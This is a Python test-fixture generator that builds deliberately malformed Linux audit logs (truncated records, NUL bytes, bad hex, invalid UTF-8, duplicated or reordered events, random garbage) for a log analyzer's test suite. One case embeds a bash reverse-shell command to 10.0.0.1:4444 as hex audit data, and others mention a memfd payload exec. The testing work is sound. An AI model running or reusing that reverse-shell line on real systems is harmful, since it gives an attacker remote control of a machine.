#!/usr/bin/env python3
"""gen-malformed.py CASE TOP_SRCDIR OUT

Hand-made damaged audit logs for tests/malformed.sh, made at test time from
real records (testdata/ci-job/audit.log, tests/data/*.log): OUT is the log,
OUT.facts what was done to it, as shell assignments (how many lines were
damaged, how many records and events the log still holds...), so that the
test's expectations come from the input, not from what steptrail prints.

Deterministic: the same CASE gives the same bytes on every machine (random
bytes come from random.Random with a fixed seed).
"""
import random
import re
import sys

HDR = re.compile(rb'msg=audit\((\d+)\.(\d+):(\d+)\):')


def read_lines(path):
    with open(path, 'rb') as f:
        return f.read().split(b'\n')[:-1]


def events(lines):
    """[(serial, [lines])] in order of first appearance."""
    out, at = [], {}
    for ln in lines:
        s = int(HDR.search(ln).group(3))
        if s not in at:
            at[s] = len(out)
            out.append((s, []))
        out[at[s]][1].append(ln)
    return out


def flat(evs):
    return [ln for _, v in evs for ln in v]


def is_eoe(ln):
    return ln.split(b' msg=', 1)[0].endswith(b'type=EOE')


def count_records(lines):
    return sum(1 for ln in lines if not is_eoe(ln))


def shift_time(ln, delta):
    m = HDR.search(ln)
    sec = int(m.group(1)) + delta
    return ln[:m.start(1)] + str(sec).encode() + ln[m.end(1):]


def header_len(ln):
    return HDR.search(ln).end()


def malformed_lines(data):
    """Lines steptrail must skip as malformed, as source.c and reader.c
    define a line: split at \\n, trailing \\r and spaces ignored, blank lines
    not counted, anything longer than 64 KiB malformed, else malformed
    unless it has a record header (and no NUL byte)."""
    parts = data.split(b'\n')
    if parts and parts[-1] == b'':
        parts.pop()
    n = 0
    hdr = re.compile(rb'^(node=[^ \x00-\x1f\x7f]+ )?type=[A-Z0-9_\[\]]+ '
                     rb'msg=audit\(\d+(\.\d+)?:\d+\):')
    for p in parts:
        if len(p) > 64 * 1024:
            n += 1
            continue
        p = p.rstrip(b'\r ')
        if p == b'':
            continue
        if b'\x00' in p or not hdr.match(p):
            n += 1
    return n


class Out:
    def __init__(self, path):
        self.path = path
        self.facts = {}

    def write(self, data, **facts):
        with open(self.path, 'wb') as f:
            f.write(data)
        self.facts.update(facts)
        with open(self.path + '.facts', 'w') as f:
            for k, v in sorted(self.facts.items()):
                f.write(f'{k}={v}\n')


def join(lines, final_newline=True):
    return b'\n'.join(lines) + (b'\n' if final_newline else b'')


def hexs(b):
    return b.hex().upper().encode()


# ---------------------------------------------------------------- cases

def c_trunc_header(top, out):
    """Five records cut inside their header (type=, the time, the serial,
    just before "):"), and the last line of the file cut without its
    newline, as a log being written or a disk that filled."""
    lines = read_lines(f'{top}/testdata/ci-job/audit.log')
    cuts = {100: b'type=SYSC', 700: None, 1300: None, 1900: None}
    damaged = 0
    for i in sorted(cuts):
        ln = lines[i]
        h = header_len(ln)
        if i == 100:
            lines[i] = ln[:9]                       # type=SYSC
        elif i == 700:
            lines[i] = ln[:ln.index(b'(') + 5]      # msg=audit(1795
        elif i == 1300:
            lines[i] = ln[:ln.index(b':', ln.index(b'(')) + 3]  # mid-serial
        else:
            lines[i] = ln[:h - 2]                   # up to the serial
        damaged += 1
    last = lines[-1]
    lines[-1] = last[:last.index(b'(') + 8]         # EOF mid-time
    damaged += 1
    out.write(join(lines, final_newline=False), damaged=damaged,
              records=count_records(lines) - damaged)


def c_trunc_field(top, out):
    """The SYSCALL record of the memfd exec (serial 14087) cut in the middle
    of a field name, before its pid: the exec lost its pid and everything
    after (uid, comm, exe)."""
    lines = read_lines(f'{top}/tests/data/real-memfd-exec.log')
    for i, ln in enumerate(lines):
        if b':14087): ' in ln and ln.startswith(b'type=SYSCALL'):
            lines[i] = ln[:ln.index(b' pid=') + 3]      # "... ppid=18217 pi"
            break
    else:
        raise SystemExit('record not found')
    out.write(join(lines), execs=2, events=4, damaged_serial=14087)


def c_trunc_hex(top, out):
    """The EXECVE record of `python3 -c CODE` (serial 14085) cut inside the
    hex of CODE, after an odd number of hex digits: the rest of CODE is
    lost, and what is left is not whole bytes."""
    lines = read_lines(f'{top}/tests/data/real-memfd-exec.log')
    for i, ln in enumerate(lines):
        if b':14085): ' in ln and ln.startswith(b'type=EXECVE'):
            a = ln.index(b' a2=') + 4
            lines[i] = ln[:a + 41]
            break
    else:
        raise SystemExit('record not found')
    out.write(join(lines), damaged_serial=14085)


def c_trunc_chunk(top, out):
    """An argument the kernel split into chunks (a1_len=15200, a1[0]...)
    whose second chunk's record is cut mid-hex (odd number of digits)."""
    lines = read_lines(f'{top}/tests/data/real-long-arg.log')
    for i, ln in enumerate(lines):
        if b' a1[1]=' in ln:
            a = ln.index(b' a1[1]=') + 7
            lines[i] = ln[:a + 301]
            break
    else:
        raise SystemExit('record not found')
    out.write(join(lines), damaged_serial=12938)


def c_nul(top, out):
    """NUL bytes inside seven records of the CI job: in the type, the time,
    the serial, a quoted value, a hex value, at the end of the line, and a
    run of 64 of them mid-line."""
    lines = read_lines(f'{top}/testdata/ci-job/audit.log')
    at = [(10, 7), (400, 25), (800, 38), (1200, -20), (1600, 120), (2000, None),
          (2400, 60)]
    for i, pos in at:
        ln = lines[i]
        if pos is None:
            lines[i] = ln + b'\x00'
        elif i == 2400:
            lines[i] = ln[:pos] + b'\x00' * 64 + ln[pos:]
        else:
            lines[i] = ln[:pos] + b'\x00' + ln[pos:]
    out.write(join(lines), damaged=len(at),
              records=count_records(lines) - len(at))


def c_long_line(top, out):
    """Two 64 MiB lines in the CI job's log: an EXECVE record of its own
    serial whose argument is 64 MiB of hex, between two events, and the
    same at the end of the file without a final newline."""
    lines = read_lines(f'{top}/testdata/ci-job/audit.log')
    evs = events(lines)
    mid = len(evs) // 2
    head, tail = flat(evs[:mid]), flat(evs[mid:])
    big = (b'type=EXECVE msg=audit(1795400000.000:999999): argc=2 a0="x" a1='
           + b'41' * (32 * 1024 * 1024))
    data = join(head) + big + b'\n' + join(tail) + big
    out.write(data, damaged=2, records=count_records(lines),
              events=len(evs), line_bytes=len(big))


def c_bad_hex(top, out):
    """EXECVE arguments that are neither quoted nor hex: `python3 -c CODE`
    (14085) with a G in the middle of CODE's hex, and the memfd payload's
    argv[0] (14087) given as an odd number of hex digits."""
    lines = read_lines(f'{top}/tests/data/real-memfd-exec.log')
    done = 0
    for i, ln in enumerate(lines):
        if ln.startswith(b'type=EXECVE') and b':14085): ' in ln:
            a = ln.index(b' a2=') + 4
            lines[i] = ln[:a + 20] + b'G' + ln[a + 21:]
            done += 1
        elif ln.startswith(b'type=EXECVE') and b':14087): ' in ln:
            lines[i] = ln.replace(b'a0="payload"', b'a0=7061796C6F616')
            done += 1
    assert done == 2
    out.write(join(lines), damaged=2)


def c_argc_more(top, out):
    """argc=1 but three arguments (the memfd payload's exec, 14087)."""
    lines = read_lines(f'{top}/tests/data/real-memfd-exec.log')
    for i, ln in enumerate(lines):
        if ln.startswith(b'type=EXECVE') and b':14087): ' in ln:
            lines[i] = ln.replace(b'a0="payload"',
                                  b'a0="payload" a1="--hidden" a2="extra"')
    out.write(join(lines), damaged=1, argc=1)


def c_argc_fewer(top, out):
    """argc=5 but one argument (the memfd payload's exec, 14087): four
    arguments announced and never logged."""
    lines = read_lines(f'{top}/tests/data/real-memfd-exec.log')
    for i, ln in enumerate(lines):
        if ln.startswith(b'type=EXECVE') and b':14087): ' in ln:
            lines[i] = ln.replace(b'argc=1 ', b'argc=5 ')
    out.write(join(lines), damaged=1)


def c_no_eoe(top, out):
    """The CI job with an EOE after every event, as the kernel sends them
    (auditd does not write them), except every seventh, whose EOE is
    missing."""
    lines = read_lines(f'{top}/testdata/ci-job/audit.log')
    evs = events(lines)
    res, missing = [], 0
    for k, (s, v) in enumerate(evs):
        res.extend(v)
        if k % 7 == 3:
            missing += 1
            continue
        m = HDR.search(v[0])
        res.append(b'type=EOE ' + m.group(0))
    out.write(join(res), events=len(evs), records=count_records(lines),
              missing=missing)


def c_no_eoe_no_proctitle(top, out):
    """The CI job as an old kernel logs it (no PROCTITLE: libauparse ends
    an event only at its EOE), and every seventh event's EOE missing: those
    stay open until something else ends them."""
    lines = read_lines(f'{top}/testdata/ci-job/audit.log')
    evs = events(lines)
    res, missing, recs = [], 0, 0
    for k, (s, v) in enumerate(evs):
        v = [ln for ln in v if not ln.startswith(b'type=PROCTITLE ')]
        recs += len(v)
        res.extend(v)
        if k % 7 == 3:
            missing += 1
            continue
        res.append(b'type=EOE ' + HDR.search(v[0]).group(0))
    out.write(join(res), events=len(evs), records=recs, missing=missing)


def c_interleaved(top, out):
    """The CI job with the records of each run of three events dealt out
    round-robin (each event's own records keep their order), as records of
    events on several CPUs interleave."""
    lines = read_lines(f'{top}/testdata/ci-job/audit.log')
    evs = events(lines)
    res = []
    for k in range(0, len(evs), 3):
        group = [list(v) for _, v in evs[k:k + 3]]
        while any(group):
            for g in group:
                if g:
                    res.append(g.pop(0))
    out.write(join(res), events=len(evs), records=count_records(lines))


def c_serial_order(top, out):
    """The CI job with each pair of consecutive events swapped: serials
    (and times) out of order, none missing."""
    lines = read_lines(f'{top}/testdata/ci-job/audit.log')
    evs = events(lines)
    for k in range(0, len(evs) - 1, 2):
        evs[k], evs[k + 1] = evs[k + 1], evs[k]
    out.write(join(flat(evs)), events=len(evs), records=count_records(lines))


def c_serial_dup_near(top, out):
    """Every exec of the CI job, and every tenth other event, written twice
    in a row (a log concatenated with an overlapping copy of itself)."""
    lines = read_lines(f'{top}/testdata/ci-job/audit.log')
    evs = events(lines)
    res, dups = [], 0
    for k, (s, v) in enumerate(evs):
        res.extend(v)
        if k % 10 == 5 or any(ln.startswith(b'type=EXECVE ') for ln in v):
            res.extend(v)
            dups += 1
    out.write(join(res), events=len(evs), dups=dups,
              execs=sum(1 for ln in lines if ln.startswith(b'type=EXECVE ')))


PIDS = re.compile(rb' (pid|ppid)=(\d+)')
CLONE_EXIT = re.compile(rb' syscall=(56|57|58|435) success=yes exit=(\d+)')


def long_job(top, copies=4):
    """The CI job run `copies` times in a row, as one log: each copy an
    hour later, its serials following on, its pids 100000 higher (longer
    than the reader's window of 2048 events, so that events far apart in
    the file are never in it together)."""
    lines = read_lines(f'{top}/testdata/ci-job/audit.log')
    # auditd's own DAEMON_* records count from a counter of their own
    stamps = [HDR.search(ln) for ln in lines
              if not ln.startswith(b'type=DAEMON_')]
    s_lo = min(int(m.group(3)) for m in stamps)
    s_hi = max(int(m.group(3)) for m in stamps)
    t_lo = min(int(m.group(1)) for m in stamps)
    t_hi = max(int(m.group(1)) for m in stamps)
    res = []
    for k in range(copies):
        dt, ds, dp = k * (t_hi - t_lo + 3600), k * (s_hi - s_lo + 1), k * 100000

        def pid(m):
            v = int(m.group(2))
            return b' %s=%d' % (m.group(1), v + dp if v > 0 else v)

        def clone(m):
            return b' syscall=%s success=yes exit=%d' % (
                m.group(1), int(m.group(2)) + dp)
        for ln in lines:
            m = HDR.search(ln)
            ln = (ln[:m.start()] + b'msg=audit(%d.%s:%d):' % (
                int(m.group(1)) + dt, m.group(2), int(m.group(3)) + ds) +
                ln[m.end():])
            res.append(CLONE_EXIT.sub(clone, PIDS.sub(pid, ln)))
    return events(res)


def c_serial_dup_far(top, out):
    """The CI job run four times (long_job), followed by a copy of its
    first 300 events: a rotated log analyzed together with a copy of its
    beginning, the copies 2688 events apart.  OUT.base: without the
    copy."""
    evs = long_job(top)
    with open(out.path + '.base', 'wb') as f:
        f.write(join(flat(evs)))
    out.write(join(flat(evs) + flat(evs[:300])), events=len(evs), dups=300)


def c_time_back(top, out):
    """The CI job with the clock set back an hour halfway: the second
    half's times are 3600 s earlier, its serials go on from the first
    half's (the whole job fits in the reader's window)."""
    lines = read_lines(f'{top}/testdata/ci-job/audit.log')
    evs = events(lines)
    mid = len(evs) // 2
    res = flat(evs[:mid]) + [shift_time(ln, -3600) for ln in flat(evs[mid:])]
    out.write(join(res), events=len(evs), records=count_records(lines))


def c_time_back_long(top, out):
    """The CI job run four times (long_job) with the clock set back an hour
    in the middle of the third run: from event 1680 on, times are 3600 s
    earlier, and serials go on as before.  OUT.base: the clock left
    alone."""
    evs = long_job(top)
    mid = len(evs) // 2 + len(evs) // 8
    with open(out.path + '.base', 'wb') as f:
        f.write(join(flat(evs)))
    res = flat(evs[:mid]) + [shift_time(ln, -3600) for ln in flat(evs[mid:])]
    out.write(join(res), events=len(evs), records=count_records(res))


def c_utf8(top, out):
    """Invalid UTF-8 in the memfd exec (14087): argv[0] hex-encoded as the
    kernel would with bytes FF FE C0 AF (a lone byte, an overlong slash) and
    an unpaired surrogate (ED A0 80), and raw invalid bytes inside the
    quoted comm= and cwd= (the kernel would have hex-encoded them)."""
    lines = read_lines(f'{top}/tests/data/real-memfd-exec.log')
    arg = b'pay\xff\xfeload\xc0\xaf\xed\xa0\x80'
    for i, ln in enumerate(lines):
        if b':14087): ' not in ln:
            continue
        if ln.startswith(b'type=EXECVE'):
            lines[i] = ln.replace(b'a0="payload"', b'a0=' + hexs(arg))
        elif ln.startswith(b'type=SYSCALL'):
            lines[i] = ln.replace(b'comm="memfd:payload"',
                                  b'comm="memfd:\xff\xc3("')
        elif ln.startswith(b'type=CWD'):
            lines[i] = ln.replace(b'cwd="/"', b'cwd="/tmp/\xe2\x82"')
    out.write(join(lines), damaged=3)


def c_argv_100k(top, out):
    """One exec of `bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' x1
    ... x99997`: 100000 arguments over EXECVE records of about 7.5 kB, as
    the kernel splits them, the reverse shell in front."""
    h = b'msg=audit(1795400000.100:5000):'
    w = [b'type=SYSCALL ' + h + b' arch=c000003e syscall=59 success=yes '
         b'exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=1 pid=4242 auid=1001 '
         b'uid=1001 gid=1001 euid=1001 suid=1001 fsuid=1001 egid=1001 '
         b'sgid=1001 fsgid=1001 tty=(none) ses=3 comm="bash" '
         b'exe="/usr/bin/bash" key="st-exec"']
    args = [b'a0="bash"', b'a1="-c"',
            b'a2=' + hexs(b'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')]
    args += [b'a%d="x%d"' % (i, i) for i in range(3, 100000)]
    rec, size, first = [], 0, True
    for a in args:
        if size + len(a) > 7500:
            w.append(b'type=EXECVE ' + h + b' ' +
                     (b'argc=100000 ' if first else b'') + b' '.join(rec))
            first, rec, size = False, [], 0
        rec.append(a)
        size += len(a) + 1
    w.append(b'type=EXECVE ' + h + b' ' + b' '.join(rec))
    w.append(b'type=CWD ' + h + b' cwd="/home/runner"')
    w.append(b'type=PATH ' + h + b' item=0 name="/usr/bin/bash" inode=1 '
             b'dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 '
             b'nametype=NORMAL')
    w.append(b'type=PROCTITLE ' + h + b' proctitle=' +
             hexs(b'bash\x00-c\x00bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'))
    out.write(join(w), argc=100000, records=len(w))


def garbage(n, seed=1):
    """n bytes from a seeded generator, ending with a newline."""
    return random.Random(seed).randbytes(n - 1) + b'\n'


def c_garbage(top, out):
    """1 MiB of random bytes (seed 1): no audit record at all."""
    data = garbage(1024 * 1024)
    out.write(data, malformed=malformed_lines(data))


def c_garbage_mixed(top, out):
    """The CI job with 256 KiB of random bytes (seed 1) between two events
    halfway and 4 KiB more at the top."""
    lines = read_lines(f'{top}/testdata/ci-job/audit.log')
    evs = events(lines)
    mid = len(evs) // 2
    g1, g2 = garbage(4096, seed=2), garbage(256 * 1024)
    data = g1 + join(flat(evs[:mid])) + g2 + join(flat(evs[mid:]))
    out.write(data, malformed=malformed_lines(g1) + malformed_lines(g2),
              records=count_records(lines), events=len(evs))


CASES = {name[2:].replace('_', '-'): fn for name, fn in globals().items()
         if name.startswith('c_')}


def main():
    if len(sys.argv) != 4 or sys.argv[1] not in CASES:
        sys.exit('usage: gen-malformed.py CASE TOP_SRCDIR OUT\ncases: ' +
                 ' '.join(sorted(CASES)))
    CASES[sys.argv[1]](sys.argv[2], Out(sys.argv[3]))


if __name__ == '__main__':
    main()
